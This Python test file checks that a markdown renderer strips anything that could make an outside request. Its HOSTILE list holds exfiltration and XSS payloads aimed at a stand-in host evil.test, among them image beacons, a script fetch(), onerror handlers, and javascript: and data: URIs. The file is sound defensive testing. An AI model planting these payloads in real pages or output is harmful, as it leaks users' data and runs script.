"""What a model writes can't reach out of the page."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intramuros.web.markdown import TAGS, blocks, render

HOSTILE = [
    "![x](http://evil.test/i.png)",
    "![x](http://evil.test/i.png 'title')",
    "![x][r]\n\n[r]: http://evil.test/i.png",
    "[click](http://evil.test/?q=secret)",
    "[click][r]\n\n[r]: <http://evil.test/?q=secret> 'x'",
    "<http://evil.test/>",
    "<img src=http://evil.test/i.png>",
    "<IMG SRC='x' onerror='fetch(`http://evil.test`)'>",
    "<script>fetch('http://evil.test')</script>",
    "<style>p{background:url(http://evil.test/i.png)}</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<form action=http://evil.test><input name=q><button>Go</button></form>",
    "<iframe src=http://evil.test></iframe><object data=http://evil.test></object><base href=http://evil.test>",
    "<svg><image href='http://evil.test/i.png'/></svg>",
    "<p style='background:url(http://evil.test/i.png)'>x</p>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
    "<a href='http://evil.test' ping='http://evil.test'>x</a>",
    "| a |\n|---|\n| ![x](http://evil.test/i.png) |",
    "```html\n<img src=http://evil.test/i.png>\n```",
    "&lt;img src=http://evil.test/i.png&gt; &#60;script&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
]
ATTRIBUTE = re.compile(r"<[a-z0-9]+\s([^>]*)>")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_could_make_a_request_is_left(text: str) -> None:
    html = str(render(text))
    assert set(re.findall(r"</?([a-zA-Z0-9]+)", html)) <= TAGS
    assert set(ATTRIBUTE.findall(html)) <= {'class="address"'}


@given(st.text(alphabet=st.sampled_from("<>![]()\"'`*_#|-:/&;= \n\\abcimgsrcjvhttp1"), max_size=120))
def test_whatever_is_written_only_a_few_elements_come_out(text: str) -> None:
    html = str(render(text))
    assert set(re.findall(r"</?([a-zA-Z0-9]+)", html)) <= TAGS
    assert set(ATTRIBUTE.findall(html)) <= {'class="address"'}


def test_a_link_becomes_its_words_and_its_address() -> None:
    html = render("Voir [le site](http://exemple.test/a?b=1&c=2).")
    assert html == '<p>Voir le site <span class="address">http://exemple.test/a?b=1&amp;c=2</span>.</p>\n'


def test_an_image_becomes_its_words_and_its_address() -> None:
    assert render("![un plan](http://exemple.test/p.png)") == (
        '<p>un plan <span class="address">http://exemple.test/p.png</span></p>\n'
    )


def test_html_is_shown_as_it_was_written() -> None:
    assert render("Un <b>mot</b> et\n\n<div>un bloc</div>") == (
        "<p>Un &lt;b&gt;mot&lt;/b&gt; et</p>\n<p>&lt;div&gt;un bloc&lt;/div&gt;</p>\n"
    )


def test_ordinary_markdown_is_rendered() -> None:
    html = render("# Titre\n\n**gras** et *italique*\n\n1. un\n2. deux\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`")
    for part in ("<h3>Titre</h3>", "<strong>gras</strong>", "<em>italique</em>", "<ol>\n<li>un</li>", "<td>1</td>"):
        assert part in html
    assert "<code>x &lt; y</code>" in html


def test_blocks_before_the_last_stay_as_they_are_while_a_text_grows() -> None:
    text = "Un **premier** paragraphe.\n\n- un\n- deux\n\nLa fin."
    whole = blocks(text)
    assert len(whole) == 3
    assert blocks(text[:-4])[:2] == whole[:2]
